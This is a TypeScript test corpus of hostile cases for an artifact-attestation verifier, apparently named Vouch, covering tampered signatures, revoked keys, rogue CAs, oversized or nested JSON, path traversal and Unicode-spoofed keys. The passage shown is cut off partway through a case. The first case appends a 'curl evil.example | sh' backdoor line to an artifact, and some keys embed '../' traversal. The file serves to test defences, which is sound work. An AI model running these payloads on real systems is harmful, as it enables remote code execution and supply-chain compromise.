import { readFileSync } from 'node:fs';
import { createStatement, DEFAULT_LIMITS, IN_TOTO_PAYLOAD_TYPE, STATEMENT_V1 } from '#core/index.ts';
import { FIXTURE_ARTIFACT, readFixture } from '../helpers/fixtures.ts';
import { testKey } from '../helpers/keys.ts';
import { keyedBundle, testInstance } from '../helpers/sigstore/index.ts';
import {
  attest,
  type CorpusCase,
  json,
  KEY_ARN_PREFIX,
  keylessAttest,
  OPENVEX,
  PROVENANCE,
  provenancePredicate,
  scanPredicate,
  sha256,
  sha512,
  signPayload,
  VULNS,
} from './context.ts';

/** Bytes no other case (and no control) uploads: the attestation index is content-addressed. */
const bytesFor = (name: string, what = 'artifact') => `vouch attack corpus: ${name} (${what})\n`;

/** Splices characters outside every base64 alphabet into `base64` at `at`. */
const spliceInvalid = (base64: string, at: number) => `${base64.slice(0, at)}!!!!${base64.slice(at)}`;

/** Flips one hex digit: a digest that differs from the real one in a single nibble. */
const flipNibble = (hex: string) => `${hex.slice(0, -1)}${hex.endsWith('0') ? '1' : '0'}`;

function setup(done: boolean, what: string): void {
  if (!done) throw new Error(`corpus setup failed: could not ${what}`);
}

/**
 * An object key of exactly `bytes` bytes under `prefix`, in segments short enough for s3rver's file
 * store (which keeps each segment as a file name), ending in `suffix`.
 */
export function longKey(prefix: string, bytes: number, suffix = '.bin'): string {
  const segments: string[] = [];
  let room = bytes - Buffer.byteLength(prefix) - Buffer.byteLength(suffix);
  while (room > 0) {
    let take = Math.min(200, room);
    // Never leave exactly one byte: it would go to a separator and end the key with an empty segment.
    if (room - take === 1) take -= 1;
    segments.push('long'.padEnd(take, '-x').slice(0, take));
    room -= take;
    if (room > 0) room -= 1;
  }
  const key = `${prefix}${segments.join('/')}${suffix}`;
  if (Buffer.byteLength(key) !== bytes)
    throw new Error(`longKey: made ${Buffer.byteLength(key)} bytes, not ${bytes}`);
  return key;
}

/** The keyless fixture: a real npm package and its real Sigstore bundle (public-good Fulcio + Rekor). */
const fixtureArtifact = () => readFileSync(FIXTURE_ARTIFACT);

export const CORPUS: readonly CorpusCase[] = [
  // --- integrity: the bytes, the statement and the signature must all agree -----------------------------
  {
    name: 'tampered-artifact',
    description:
      'A genuine provenance signed by the pipeline key sits beside the artifact, but the artifact bytes were altered after signing (a backdoor appended).',
    expectedReason: 'SUBJECT_MISMATCH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const genuine = bytesFor('tampered-artifact');
      const key = 'releases/corpus/tampered-artifact.bin';
      return {
        artifact: { key, body: `${genuine}#!/bin/sh\ncurl evil.example | sh\n` },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'tampered-artifact.bin', genuine)),
          },
        ],
      };
    },
  },
  {
    name: 'tampered-payload',
    description:
      "A genuine bundle's DSSE payload is rewritten so its subject names the attacker's bytes; the original signature is kept.",
    expectedReason: 'SIGNATURE_INVALID',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/tampered-payload.bin';
      const evil = bytesFor('tampered-payload', 'evil');
      const bundle = await attest(pipelineKey, 'tampered-payload.bin', bytesFor('tampered-payload'));
      const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8'));
      statement.subject[0].digest = { sha256: sha256(evil) };
      const tampered = {
        ...bundle,
        dsseEnvelope: {
          ...bundle.dsseEnvelope,
          payload: Buffer.from(JSON.stringify(statement)).toString('base64'),
        },
      };
      return {
        artifact: { key, body: evil },
        attestations: [{ key: `${key}.sigstore.json`, body: json(tampered) }],
      };
    },
  },
  {
    name: 'subject-digest-mismatch',
    description:
      'A statement signed by the pipeline key names the artifact, but its sha256 differs from the bytes in one hex digit.',
    expectedReason: 'SUBJECT_MISMATCH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/subject-digest-mismatch.bin';
      const body = bytesFor('subject-digest-mismatch');
      const bundle = await attest(pipelineKey, 'subject-digest-mismatch.bin', body, {
        digests: { sha256: flipNibble(sha256(body)) },
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'subject-digest-partial-forgery',
    description:
      'A signed subject whose sha256 matches the artifact but whose sha512 does not: every algorithm both sides know must agree.',
    expectedReason: 'SUBJECT_MISMATCH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/subject-digest-partial-forgery.bin';
      const body = bytesFor('subject-digest-partial-forgery');
      const bundle = await attest(pipelineKey, 'subject-digest-partial-forgery.bin', body, {
        digests: {
          sha256: sha256(body),
          sha512: sha512(bytesFor('subject-digest-partial-forgery', 'other')),
        },
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'replayed-attestation',
    description:
      "A genuine, unmodified attestation for another artifact (another release's provenance) is copied beside the target.",
    expectedReason: 'SUBJECT_MISMATCH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/replayed-attestation.bin';
      const other = await attest(pipelineKey, 'other-release.bin', bytesFor('replayed-attestation', 'other'));
      return {
        artifact: { key, body: bytesFor('replayed-attestation') },
        attestations: [{ key: `${key}.sigstore.json`, body: json(other) }],
      };
    },
  },

  // --- keys: who signed, and whether that key could sign at the trusted time -------------------------
  {
    name: 'unknown-key',
    description: 'A well-formed provenance signed by a key the registry has never seen.',
    expectedReason: 'UNKNOWN_KEY',
    settles: 'at-deadline',
    async build() {
      const key = 'releases/corpus/unknown-key.bin';
      const body = bytesFor('unknown-key');
      const stranger = testKey('p256', `${KEY_ARN_PREFIX}corpus-stranger`);
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(stranger, 'unknown-key.bin', body)) },
        ],
      };
    },
  },
  {
    name: 'revoked-key',
    description:
      'Signed by a registry key revoked effective 2021-01-01; the signature is observed (uploaded) after the effective time.',
    expectedReason: 'KEY_REVOKED',
    settles: 'at-deadline',
    async build({ registerKey, registry }) {
      const signer = await registerKey('corpus-revoked');
      setup(
        (await registry.revoke(signer.keyId, new Date('2021-01-01T00:00:00.000Z'), 'leaked in CI logs')) ===
          'revoked',
        'revoke the key',
      );
      const key = 'releases/corpus/revoked-key.bin';
      const body = bytesFor('revoked-key');
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(signer, 'revoked-key.bin', body)) },
        ],
      };
    },
  },
  {
    name: 'retired-key',
    description:
      'Signed by a registry key rotated out: retiring with a window ending 2021-06-01, then retired. The signature is observed after the window.',
    expectedReason: 'KEY_NOT_VALID_AT_TIME',
    settles: 'at-deadline',
    async build({ registerKey, registry }) {
      const signer = await registerKey('corpus-retired');
      setup(await registry.retire(signer.keyId, '2021-06-01T00:00:00.000Z'), 'retire the key');
      setup(await registry.markRetired(signer.keyId, '2021-06-02T00:00:00.000Z'), 'mark the key retired');
      const key = 'releases/corpus/retired-key.bin';
      const body = bytesFor('retired-key');
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(signer, 'retired-key.bin', body)) },
        ],
      };
    },
  },

  // --- policy: right signature, wrong claim --------------------------------------------------------
  {
    name: 'wrong-predicate-type',
    description:
      'Validly signed by the pipeline key and naming the artifact, but a test-result attestation where the rule requires SLSA provenance.',
    expectedReason: 'MISSING_ATTESTATION',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/wrong-predicate-type.bin';
      const body = bytesFor('wrong-predicate-type');
      const bundle = await attest(pipelineKey, 'wrong-predicate-type.bin', body, {
        predicateType: 'https://in-toto.io/attestation/test-result/v0.1',
        predicate: { result: 'PASSED' },
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'disallowed-builder',
    description: 'Valid provenance from the pipeline key, but built by a builder the rule does not allow.',
    expectedReason: 'BUILDER_NOT_ALLOWED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'builds/corpus/disallowed-builder.bin';
      const body = bytesFor('disallowed-builder');
      const bundle = await attest(pipelineKey, 'disallowed-builder.bin', body, {
        predicate: provenancePredicate('https://evil.example/builder@v1'),
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'builder-prefix-lookalike',
    description:
      'A builder ID that merely starts with the allowed one (`…generic_slsa3.yml-evil@v1`): allowed IDs match exactly or by ref.',
    expectedReason: 'BUILDER_NOT_ALLOWED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'builds/corpus/builder-prefix-lookalike.bin';
      const body = bytesFor('builder-prefix-lookalike');
      const bundle = await attest(pipelineKey, 'builder-prefix-lookalike.bin', body, {
        predicate: provenancePredicate(
          'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml-evil@v1',
        ),
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'keyless-identity-mismatch',
    readsFixtures: true,
    description:
      'A real keyless Sigstore bundle (brian@dehamer.com via GitHub OAuth, Rekor-logged) for its real npm package, under a rule that requires another identity.',
    expectedReason: 'SIGNER_NOT_ALLOWED',
    settles: 'at-deadline',
    async build() {
      const key = 'keyless/identity/sigstore-1.0.0.tgz';
      return {
        artifact: { key, body: fixtureArtifact() },
        attestations: [{ key: `${key}.sigstore`, body: readFixture('bundleV03-dsse.sigstore') }],
      };
    },
  },
  {
    name: 'keyless-issuer-mismatch',
    readsFixtures: true,
    description:
      'The same real keyless bundle under a rule that requires the same identity from another OIDC issuer (GitHub Actions).',
    expectedReason: 'SIGNER_NOT_ALLOWED',
    settles: 'at-deadline',
    async build() {
      const key = 'keyless/issuer/sigstore-1.0.0.tgz';
      return {
        artifact: { key, body: fixtureArtifact() },
        attestations: [{ key: `${key}.sigstore`, body: readFixture('bundleV02-intoto.sigstore') }],
      };
    },
  },
  {
    name: 'keyless-identity-mismatch-test-instance',
    description:
      'A keyless bundle of the test instance (its CA, CT log and Rekor, trusted by the corpus root) for the fixture identity, under a rule that requires another identity.',
    expectedReason: 'SIGNER_NOT_ALLOWED',
    settles: 'at-deadline',
    async build() {
      const key = 'keyless/identity/test-instance.tgz';
      const body = bytesFor('keyless-identity-mismatch-test-instance');
      return {
        artifact: { key, body },
        attestations: [{ key: `${key}.sigstore.json`, body: json(keylessAttest(body)) }],
      };
    },
  },
  {
    name: 'keyless-issuer-mismatch-test-instance',
    description:
      'The same kind of self-made keyless bundle under a rule that requires the same identity from another OIDC issuer.',
    expectedReason: 'SIGNER_NOT_ALLOWED',
    settles: 'at-deadline',
    async build() {
      const key = 'keyless/issuer/test-instance.tgz';
      const body = bytesFor('keyless-issuer-mismatch-test-instance');
      return {
        artifact: { key, body },
        attestations: [{ key: `${key}.sigstore.json`, body: json(keylessAttest(body)) }],
      };
    },
  },
  {
    name: 'keyless-rogue-ca',
    description:
      'A keyless bundle naming exactly the identity and issuer the npm rule allows, but certified by a CA of another Sigstore instance (with its own CT log and Rekor) that the trusted root does not list.',
    expectedReason: 'CERTIFICATE_INVALID',
    settles: 'at-deadline',
    async build() {
      const key = 'npm/corpus/keyless-rogue-ca.tgz';
      const body = bytesFor('keyless-rogue-ca');
      const rogue = keylessAttest(body, { instance: testInstance({ name: 'rogue' }) });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(rogue) }] };
    },
  },

  // --- hostile attestation files -------------------------------------------------------------------
  {
    name: 'malformed-json',
    description: 'An attestation file that is not JSON at all (single quotes, trailing comma).',
    expectedReason: 'PARSE_ERROR',
    settles: 'at-deadline',
    async build() {
      const key = 'releases/corpus/malformed-json.bin';
      const attestation = `${key}.sigstore.json`;
      return {
        artifact: { key, body: bytesFor('malformed-json') },
        attestations: [
          { key: attestation, body: "{'mediaType': 'application/vnd.dev.sigstore.bundle.v0.3+json',}" },
        ],
        reasonOn: attestation,
      };
    },
  },
  {
    name: 'truncated-file',
    description: 'A genuine, valid bundle for the artifact, cut off halfway (an interrupted upload).',
    expectedReason: 'PARSE_ERROR',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/truncated-file.bin';
      const body = bytesFor('truncated-file');
      const attestation = `${key}.sigstore.json`;
      const whole = JSON.stringify(await attest(pipelineKey, 'truncated-file.bin', body), null, 2);
      return {
        artifact: { key, body },
        attestations: [{ key: attestation, body: whole.slice(0, Math.floor(whole.length / 2)) }],
        reasonOn: attestation,
      };
    },
  },
  {
    name: 'oversized-attestation',
    description: `A genuine, valid bundle for the artifact padded with trailing spaces to ${DEFAULT_LIMITS.maxAttestationBytes} + 1 bytes: still valid JSON, refused on size alone (not a byte of it read).`,
    expectedReason: 'LIMIT_EXCEEDED',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/oversized-attestation.bin';
      const body = bytesFor('oversized-attestation');
      const attestation = `${key}.sigstore.json`;
      const padded = Buffer.alloc(DEFAULT_LIMITS.maxAttestationBytes + 1, 0x20);
      padded.write(json(await attest(pipelineKey, 'oversized-attestation.bin', body)));
      return {
        artifact: { key, body },
        attestations: [{ key: attestation, body: padded }],
        reasonOn: attestation,
        unread: [attestation],
      };
    },
  },
  {
    name: 'oversized-jsonl-attestation',
    description:
      'An `.intoto.jsonl` of one byte over the limit beside the artifact: refused from the size S3 reports before a byte of it is read, so neither memory nor time grows with what an attacker uploads (the bytes read are counted: 0, whatever the size).',
    expectedReason: 'LIMIT_EXCEEDED',
    settles: 'at-deadline',
    async build() {
      const key = 'releases/corpus/oversized-jsonl-attestation.bin';
      const attestation = `${key}.intoto.jsonl`;
      return {
        artifact: { key, body: bytesFor('oversized-jsonl-attestation') },
        attestations: [
          { key: attestation, body: Buffer.alloc(DEFAULT_LIMITS.maxAttestationBytes + 1, 0x7b) },
        ],
        reasonOn: attestation,
        unread: [attestation],
      };
    },
  },
  {
    name: 'deeply-nested-json',
    description:
      'An attestation file of 100,000 nested arrays, aimed at recursive parsers and schema validators.',
    expectedReason: 'LIMIT_EXCEEDED',
    settles: 'at-deadline',
    async build() {
      const key = 'releases/corpus/deeply-nested-json.bin';
      const attestation = `${key}.sigstore.json`;
      return {
        artifact: { key, body: bytesFor('deeply-nested-json') },
        attestations: [{ key: attestation, body: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }],
        reasonOn: attestation,
      };
    },
  },
  {
    name: 'deeply-nested-signed-payload',
    description:
      'A correctly signed bundle (pipeline key) whose DSSE payload is a statement with a predicate nested 10,000 levels deep.',
    expectedReason: 'LIMIT_EXCEEDED',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/deeply-nested-signed-payload.bin';
      const body = bytesFor('deeply-nested-signed-payload');
      const attestation = `${key}.sigstore.json`;
      const head = json({
        _type: STATEMENT_V1,
        subject: [{ name: 'deeply-nested-signed-payload.bin', digest: { sha256: sha256(body) } }],
        predicateType: PROVENANCE,
      }).slice(0, -1);
      const payload = `${head},"predicate":{"x":${'['.repeat(10_000)}${']'.repeat(10_000)}}}`;
      const bundle = await signPayload(pipelineKey, Buffer.from(payload));
      return {
        artifact: { key, body },
        attestations: [{ key: attestation, body: json(bundle) }],
        reasonOn: attestation,
      };
    },
  },
  {
    name: 'invalid-base64',
    description:
      "A bare DSSE envelope whose payload has '!' characters spliced into genuine base64. A lenient decoder (Buffer.from) skips them and decodes the signed bytes, so only strict validation refuses it.",
    expectedReason: 'PARSE_ERROR',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/invalid-base64.bin';
      const body = bytesFor('invalid-base64');
      const attestation = `${key}.dsse.json`;
      const { dsseEnvelope } = await attest(pipelineKey, 'invalid-base64.bin', body);
      const envelope = {
        payloadType: IN_TOTO_PAYLOAD_TYPE,
        // Spliced in early: see `invalid-base64-late` for why not further in.
        payload: spliceInvalid(dsseEnvelope.payload, 8),
        signatures: dsseEnvelope.signatures,
      };
      return {
        artifact: { key, body },
        attestations: [{ key: attestation, body: json(envelope) }],
        reasonOn: attestation,
      };
    },
  },
  {
    name: 'invalid-base64-late',
    description:
      "As `invalid-base64`, with the '!' characters spliced into the middle of the payload (or a payload wrapped at 76 columns, as MIME base64 is).",
    expectedReason: 'PARSE_ERROR',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/invalid-base64-late.bin';
      const body = bytesFor('invalid-base64-late');
      const attestation = `${key}.dsse.json`;
      const { dsseEnvelope } = await attest(pipelineKey, 'invalid-base64-late.bin', body);
      const envelope = {
        payloadType: IN_TOTO_PAYLOAD_TYPE,
        payload: spliceInvalid(dsseEnvelope.payload, Math.floor(dsseEnvelope.payload.length / 2)),
        signatures: dsseEnvelope.signatures,
      };
      return {
        artifact: { key, body },
        attestations: [{ key: attestation, body: json(envelope) }],
        reasonOn: attestation,
      };
    },
  },

  // --- thresholds: one signer must not count twice toward k of n ------------------------------------
  {
    name: 'duplicate-signature-in-envelope',
    description:
      "A DSSE envelope carrying the first signer's valid signature twice, against a rule requiring 2 distinct signers of 2.",
    expectedReason: 'THRESHOLD_NOT_MET',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'dual/corpus/duplicate-signature-in-envelope.bin';
      const body = bytesFor('duplicate-signature-in-envelope');
      const { dsseEnvelope } = await attest(pipelineKey, 'duplicate-signature-in-envelope.bin', body);
      const [signature] = dsseEnvelope.signatures;
      const envelope = { ...dsseEnvelope, signatures: [signature, signature] };
      return { artifact: { key, body }, attestations: [{ key: `${key}.dsse.json`, body: json(envelope) }] };
    },
  },
  {
    name: 'duplicate-attestation-files',
    description:
      "The first signer's valid bundle uploaded twice, under two attestation names beside the artifact, against the 2-of-2 rule.",
    expectedReason: 'THRESHOLD_NOT_MET',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'dual/corpus/duplicate-attestation-files.bin';
      const body = bytesFor('duplicate-attestation-files');
      const bundle = json(await attest(pipelineKey, 'duplicate-attestation-files.bin', body));
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: bundle },
          { key: `${key}.intoto.jsonl`, body: `${bundle}\n${bundle}\n` },
        ],
      };
    },
  },
  {
    name: 'duplicate-signature-relabelled',
    description:
      "The first signer's signature copied into a second slot whose keyid names the second signer, against the 2-of-2 rule.",
    expectedReason: 'THRESHOLD_NOT_MET',
    settles: 'at-deadline',
    async build({ pipelineKey, secondKey }) {
      const key = 'dual/corpus/duplicate-signature-relabelled.bin';
      const body = bytesFor('duplicate-signature-relabelled');
      const { dsseEnvelope } = await attest(pipelineKey, 'duplicate-signature-relabelled.bin', body);
      const [signature] = dsseEnvelope.signatures;
      const envelope = {
        ...dsseEnvelope,
        signatures: [signature, { sig: signature?.sig, keyid: secondKey.keyId }],
      };
      return { artifact: { key, body }, attestations: [{ key: `${key}.dsse.json`, body: json(envelope) }] };
    },
  },

  // --- hostile object keys ---------------------------------------------------------------------------
  {
    name: 'key-dot-dot-traversal',
    description: 'An artifact key with a `..` segment (`releases/../secrets/…`), refused before download.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build() {
      return {
        artifact: {
          key: 'releases/../secrets/corpus-traversal.bin',
          body: bytesFor('key-dot-dot-traversal'),
        },
        neverPromotedAs: ['secrets/corpus-traversal.bin'],
      };
    },
  },
  {
    name: 'key-dot-segment',
    description:
      'An artifact key with a `.` segment (`releases/./…`), which a normalising store would merge with another key.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build() {
      return {
        artifact: { key: 'releases/./corpus-dot-segment.bin', body: bytesFor('key-dot-segment') },
        neverPromotedAs: ['releases/corpus-dot-segment.bin'],
      };
    },
  },
  {
    name: 'attestation-key-traversal',
    description:
      'An attestation uploaded under a key with a `..` segment: refused before download, like an artifact.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const body = bytesFor('attestation-key-traversal');
      return {
        artifact: {
          key: 'releases/../corpus-attestation-traversal.bin.sigstore.json',
          body: json(await attest(pipelineKey, 'corpus-attestation-traversal.bin', body)),
        },
      };
    },
  },
  {
    name: 'key-bidi-override',
    description:
      'A right-to-left override makes `report\\u202Efdp.exe` display as `reportexe.pdf`; refused whatever its attestations.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/report\u202Efdp.exe';
      const body = bytesFor('key-bidi-override');
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(pipelineKey, 'report.exe', body)) },
        ],
      };
    },
  },
  {
    name: 'key-not-nfc',
    description:
      'A decomposed (NFD) `cafe\\u0301.bin` that looks identical to the composed `café.bin`: refused, never normalised into the other name.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/cafe\u0301.bin';
      const body = bytesFor('key-not-nfc');
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(pipelineKey, 'café.bin', body)) },
        ],
        neverPromotedAs: ['releases/corpus/caf\u00e9.bin'],
      };
    },
  },
  {
    name: 'key-homoglyph-prefix',
    description:
      'A validly signed artifact under `r\\u0435leases/` (Cyrillic е): it looks like the releases rule but matches no rule.',
    expectedReason: 'NO_MATCHING_RULE',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'r\u0435leases/corpus/homoglyph.bin';
      const body = bytesFor('key-homoglyph-prefix');
      return {
        artifact: { key, body },
        attestations: [
          { key: `${key}.sigstore.json`, body: json(await attest(pipelineKey, 'homoglyph.bin', body)) },
        ],
        neverPromotedAs: ['releases/corpus/homoglyph.bin'],
      };
    },
  },
  {
    name: 'key-division-slash',
    description:
      'A validly signed artifact whose "directory" separator is U+2215 DIVISION SLASH (`releases\\u2215…`): one segment, no rule.',
    expectedReason: 'NO_MATCHING_RULE',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases\u2215corpus-division-slash.bin';
      const body = bytesFor('key-division-slash');
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'corpus-division-slash.bin', body)),
          },
        ],
        neverPromotedAs: ['releases/corpus-division-slash.bin'],
      };
    },
  },
  {
    name: 'key-url-encoded-traversal',
    description:
      'A validly signed artifact whose key literally contains `%2e%2e%2f`. S3 event keys are decoded once: decoding twice would read `../releases/…`.',
    expectedReason: 'NO_MATCHING_RULE',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = '%2e%2e%2freleases/corpus/url-encoded-traversal.bin';
      const body = bytesFor('key-url-encoded-traversal');
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'url-encoded-traversal.bin', body)),
          },
        ],
        neverPromotedAs: [
          '../releases/corpus/url-encoded-traversal.bin',
          'releases/corpus/url-encoded-traversal.bin',
        ],
      };
    },
  },
  {
    name: 'key-url-encoded-slash',
    description:
      'A validly signed artifact at `releases%2Fcorpus-encoded-slash.bin`: one segment that only a second decoding would move under releases/.',
    expectedReason: 'NO_MATCHING_RULE',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'releases%2Fcorpus-encoded-slash.bin';
      const body = bytesFor('key-url-encoded-slash');
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'corpus-encoded-slash.bin', body)),
          },
        ],
        neverPromotedAs: ['releases/corpus-encoded-slash.bin'],
      };
    },
  },
  {
    name: 'key-long-artifact',
    description:
      'An artifact key of 960 bytes (the longest Vouch accepts) whose only attestation, found through the digest index, is signed by an unknown key.',
    expectedReason: 'UNKNOWN_KEY',
    settles: 'at-deadline',
    async build() {
      const body = bytesFor('key-long-artifact');
      const stranger = testKey('p256', `${KEY_ARN_PREFIX}corpus-long-stranger`);
      return {
        artifact: { key: longKey('releases/corpus/', 960), body },
        attestations: [
          {
            key: 'releases/corpus/key-long-artifact.intoto.jsonl',
            body: json(await attest(stranger, 'long.bin', body)),
          },
        ],
      };
    },
  },
  {
    name: 'key-long-attestation',
    description:
      "A 940-byte artifact key with a 954-byte `.sigstore.json` attestation beside it (both within the 960-byte limit; their index and waiter entries must stay under DynamoDB's 1,024-byte sort keys), signed by an unknown key.",
    expectedReason: 'UNKNOWN_KEY',
    settles: 'at-deadline',
    async build() {
      const body = bytesFor('key-long-attestation');
      const stranger = testKey('p256', `${KEY_ARN_PREFIX}corpus-long-stranger-2`);
      const key = longKey('releases/corpus/', 940);
      return {
        artifact: { key, body },
        attestations: [{ key: `${key}.sigstore.json`, body: json(await attest(stranger, 'long.bin', body)) }],
      };
    },
  },
  {
    name: 'key-too-long',
    description:
      'A 1,000-byte artifact key (S3 allows 1,024): too long for the VSA and attestation copies Vouch writes beside it, so refused before download.',
    expectedReason: 'INVALID_PATH',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const body = bytesFor('key-too-long');
      return {
        artifact: { key: longKey('releases/corpus/', 1000), body },
        attestations: [
          {
            key: 'releases/corpus/key-too-long.intoto.jsonl',
            body: json(await attest(pipelineKey, 'long.bin', body)),
          },
        ],
      };
    },
  },

  // --- the security review of 2026-11-26 (issue 11) ----------------------------------------------
  {
    name: 'hostile-key-hint',
    description:
      'A bundle beside the artifact whose public-key hint is 5,000 characters of `arn:…`: refused as a hint before any lookup (a DynamoDB key that long fails the call), so it is noise, never an error that stalls the message.',
    expectedReason: 'UNKNOWN_KEY',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/hostile-key-hint.bin';
      const body = bytesFor('hostile-key-hint');
      const bundle = await attest(pipelineKey, 'hostile-key-hint.bin', body);
      const hint = `arn:aws:kms:us-east-1:000000000000:key/${'x'.repeat(5000)}`;
      const hostile = {
        ...bundle,
        verificationMaterial: { ...bundle.verificationMaterial, publicKey: { hint } },
      };
      return {
        artifact: { key, body },
        attestations: [{ key: `${key}.sigstore.json`, body: json(hostile) }],
      };
    },
  },
  {
    name: 'junk-veto-from-another-prefix',
    description:
      "An attestation uploaded under another prefix, signed by a key nobody allows, naming the victim's digest with a builder the rule forbids: it must not turn the wait for the genuine provenance into a rejection.",
    expectedReason: 'UNKNOWN_KEY',
    settles: 'at-deadline',
    async build() {
      const key = 'builds/corpus/junk-veto.bin';
      const body = bytesFor('junk-veto-from-another-prefix');
      const stranger = testKey('p256', `${KEY_ARN_PREFIX}corpus-junk-veto`);
      const junk = await attest(stranger, 'junk-veto.bin', body, {
        predicate: provenancePredicate('https://evil.example/builder@v1'),
      });
      return {
        artifact: { key, body },
        attestations: [{ key: 'elsewhere/corpus/junk-veto.sigstore.json', body: json(junk) }],
      };
    },
  },
  {
    name: 'pathological-source-uri',
    description:
      'Provenance signed by the pipeline key whose source repository is `https://github.com/` and a megabyte of slashes: a backtracking normalisation took seconds per 80,000; it is refused from its length.',
    expectedReason: 'SOURCE_NOT_ALLOWED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'sources/corpus/pathological-source-uri.bin';
      const body = bytesFor('pathological-source-uri');
      const predicate = provenancePredicate();
      const workflow = { ...predicate.buildDefinition.externalParameters.workflow };
      workflow.repository = `https://github.com/${'/'.repeat(1024 * 1024)}x`;
      const hostile = {
        ...predicate,
        buildDefinition: { ...predicate.buildDefinition, externalParameters: { workflow } },
      };
      const bundle = await attest(pipelineKey, 'pathological-source-uri.bin', body, { predicate: hostile });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'source-only-in-dependencies',
    description:
      "A fork's build (workflow.repository is the fork) that lists the real repository among its resolved dependencies: only the build's own source counts.",
    expectedReason: 'SOURCE_NOT_ALLOWED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'sources/corpus/source-only-in-dependencies.bin';
      const body = bytesFor('source-only-in-dependencies');
      const predicate = provenancePredicate();
      const fork = {
        ...predicate,
        buildDefinition: {
          ...predicate.buildDefinition,
          externalParameters: {
            workflow: {
              ...predicate.buildDefinition.externalParameters.workflow,
              repository: 'https://github.com/evil/app',
            },
          },
          resolvedDependencies: [{ uri: 'git+https://github.com/acme/app@refs/heads/main' }],
        },
      };
      const bundle = await attest(pipelineKey, 'source-only-in-dependencies.bin', body, { predicate: fork });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  {
    name: 'jsonl-lines-for-other-artifacts',
    description:
      'An `.intoto.jsonl` beside the artifact whose lines are genuine provenance for other artifacts: lines of a collection about other subjects are skipped, so nothing vouches for this one.',
    expectedReason: 'SUBJECT_MISMATCH',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'releases/corpus/jsonl-lines-for-other-artifacts.bin';
      const lines = await Promise.all(
        ['a', 'b'].map(async (other) =>
          json(
            (await attest(pipelineKey, `${other}.bin`, bytesFor('jsonl-lines-for-other-artifacts', other)))
              .dsseEnvelope,
          ),
        ),
      );
      return {
        artifact: { key, body: bytesFor('jsonl-lines-for-other-artifacts') },
        attestations: [{ key: `${key}.intoto.jsonl`, body: `${lines.join('\n')}\n` }],
      };
    },
  },
  {
    name: 'flooded-digest',
    description:
      "100 attestations under another prefix, each signed by a different unknown key, all naming the victim's digest: an evaluation reads a bounded number of them and the artifact waits.",
    expectedReason: 'LIMIT_EXCEEDED',
    settles: 'at-deadline',
    async build() {
      const key = 'releases/corpus/flooded-digest.bin';
      const body = bytesFor('flooded-digest');
      const flood = await Promise.all(
        Array.from({ length: 100 }, async (_, i) => ({
